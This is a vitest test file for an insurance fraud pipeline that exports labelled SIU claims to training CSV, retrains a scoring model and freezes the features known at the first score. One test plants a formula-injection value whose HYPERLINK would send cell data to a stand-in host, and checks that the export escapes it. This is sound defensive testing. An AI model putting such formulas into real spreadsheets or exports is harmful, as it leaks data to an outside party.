import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { assessFraud } from '../../lambdas/core/fraud/assess.ts';
import {
  EXPORT_ID,
  EXPORT_LABEL,
  exportedFeatures,
  firstScoreOf,
  type LabelledClaim,
  type StoredFraudRecord,
  trainingCsv,
} from '../../lambdas/core/fraud/export.ts';
import { computeFeatures, FEATURE_CATALOGUE, type FeatureRow } from '../../lambdas/core/fraud/features.ts';
import { rng } from '../../lambdas/core/fraud/gbdt.ts';
import { trainFraudModel } from '../../lambdas/core/fraud/model.ts';
import { compileRedFlags } from '../../lambdas/core/fraud/red-flags.ts';

const rules = compileRedFlags(JSON.parse(readFileSync('lambdas/config/fraud-rules.json', 'utf8')));
const DAY = 86_400_000;

/** A live claim's feature row: loss `days` after the policy start, with or without a new bank account. */
function row(r: () => number, days: number, newAccount: boolean, n: number): FeatureRow {
  const start = Date.parse('2025-01-01T00:00:00Z');
  const loss = new Date(start + days * DAY + 3_600_000);
  return computeFeatures(
    {
      claimId: `c-${n}`,
      productCode: r() < 0.5 ? 'MOTOR_OD' : 'HOME',
      cause: r() < 0.5 ? 'collision' : 'theft',
      channel: r() < 0.8 ? 'web' : 'phone',
      submittedAt: new Date(loss.getTime() + Math.floor(r() * 10) * DAY).toISOString(),
      lossAt: loss.toISOString(),
      estimatedAmount: 1_000_000 + Math.floor(r() * 50) * 137_000,
      facts: { kind: 'motor', policeAttended: r() < 0.3 },
      filedByStaff: r() < 0.1,
      payoutAccountChangeRequestedAt: newAccount ? loss.toISOString() : undefined,
      contactChanged: false,
      supplementarySubmissions: Math.floor(r() * 3),
    },
    {
      effectiveFrom: new Date(start).toISOString(),
      effectiveTo: new Date(start + 365 * DAY).toISOString(),
      sumInsured: 300_000_000,
    },
    { customerClaims: [], authorityThresholds: [10_000_000], linkedClaims: 0 },
  );
}

/** Closed SIU cases: fraud is likelier for a loss in the first weeks and with a new payout account. */
function history(n: number): LabelledClaim[] {
  const r = rng(7);
  return Array.from({ length: n }, (_, i) => {
    const days = r() < 0.15 ? Math.floor(r() * 20) : 20 + Math.floor(r() * 340);
    const newAccount = r() < 0.1;
    const p = 0.03 + (days < 20 ? 0.3 : 0) + (newAccount ? 0.25 : 0);
    return {
      claimNumber: `HS-2025-${String(i).padStart(6, '0')}`,
      submittedAt: new Date(Date.parse('2025-01-01T00:00:00Z') + i * 60_000).toISOString(),
      features: row(r, days, newAccount, i),
      label: r() < p ? 1 : 0,
    };
  });
}

describe('the SIU export closes the loop: refer → investigate → label → retrain', () => {
  const csv = trainingCsv(history(4000));
  const rows = parse(csv, { columns: true }) as Record<string, string>[];

  it('writes the training CSV: claim number, every catalogue feature, the label; missing as empty', () => {
    const header = csv.slice(0, csv.indexOf('\n')).split(',');
    expect(header).toEqual([EXPORT_ID, ...FEATURE_CATALOGUE.map((f) => f.name), EXPORT_LABEL]);
    expect(rows).toHaveLength(4000);
    expect(rows[0]?.WitnessPresent).toBe('');
    expect(new Set(rows.map((x) => x[EXPORT_LABEL]))).toEqual(new Set(['0', '1']));
  });

  it('trains on the export, and the model scores live claims on the same features', async () => {
    const { model } = trainFraudModel(rows, {
      label: EXPORT_LABEL,
      drop: [EXPORT_ID],
      trainedAt: '2026-12-02T00:00:00Z',
    });
    expect(model.features.map((f) => f.name)).toContain('Days_Policy_Accident');
    const r = rng(99);
    const early = await assessFraud(row(r, 5, true, 1), rules, model);
    const calm = await assessFraud(row(r, 200, false, 2), rules, model);
    expect(early.score).toBeGreaterThan(calm.score * 3);
    expect(early.contributions.slice(0, 3).map((c) => c.feature)).toEqual(
      expect.arrayContaining(['Days_Policy_Accident', 'BankAccountChange_Claim']),
    );
  }, 60_000);
});

describe('the SIU export opened in a spreadsheet', () => {
  it('writes a value from the policy system that starts like a formula as text, and negative numbers as numbers', () => {
    const [claim] = history(1);
    const features = {
      ...claim!.features,
      Make: '=HYPERLINK("https://x.example/?"&A2,"Toyota")',
    } as FeatureRow;
    const csv = trainingCsv([{ ...claim!, features }]);
    expect(csv).not.toMatch(/[,\n]"?=HYPERLINK/);
    const [record] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(record?.Make).toBe(`'=HYPERLINK("https://x.example/?"&A2,"Toyota")`);
  });
});

describe('the SIU export trains on what was known at the first score, not on what the investigation found', () => {
  const record = (features: FeatureRow, o: Partial<StoredFraudRecord> = {}): StoredFraudRecord => ({
    score: 0.2,
    threshold: 0.13,
    contributions: [],
    reasons: ['SCORE_ABOVE_THRESHOLD'],
    links: [],
    features,
    scoredAt: '2026-03-01T00:00:00Z',
    trigger: 'receipt',
    model: 'm',
    ...o,
  });
  const [claim] = history(1);
  const atReceipt = claim!.features as FeatureRow;
  // After the referral: the investigator's information requests answered, documents sent.
  const afterInvestigation = { ...atReceipt, NumberOfSuppliments: 4, Claims_In_Window: 2 } as FeatureRow;

  it('freezes the row of the first score once; rescores keep it and replace only the latest row', () => {
    const first = firstScoreOf(undefined, atReceipt, '2026-03-01T00:00:00Z');
    expect(first).toEqual({ firstFeatures: atReceipt, firstScoredAt: '2026-03-01T00:00:00Z' });
    const stored = record(atReceipt, first);
    const rescored = record(afterInvestigation, {
      ...firstScoreOf(stored, afterInvestigation, '2026-04-01T00:00:00Z'),
      scoredAt: '2026-04-01T00:00:00Z',
      trigger: 'information',
    });
    expect(rescored.firstFeatures).toEqual(atReceipt);
    expect(rescored.firstScoredAt).toBe('2026-03-01T00:00:00Z');
    expect(exportedFeatures(rescored)).toEqual(atReceipt);
    const csv = trainingCsv([{ ...claim!, features: exportedFeatures(rescored)! }]);
    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(row?.NumberOfSuppliments).toBe(String(atReceipt.NumberOfSuppliments));
  });

  it('leaves out a claim scored before snapshots were kept rather than export its latest rescore', () => {
    const legacy = record(afterInvestigation);
    expect(exportedFeatures(legacy)).toBeNull();
    expect(firstScoreOf(legacy, afterInvestigation, '2026-04-01T00:00:00Z')).toBeUndefined();
    expect(exportedFeatures(undefined)).toBeNull();
  });
});
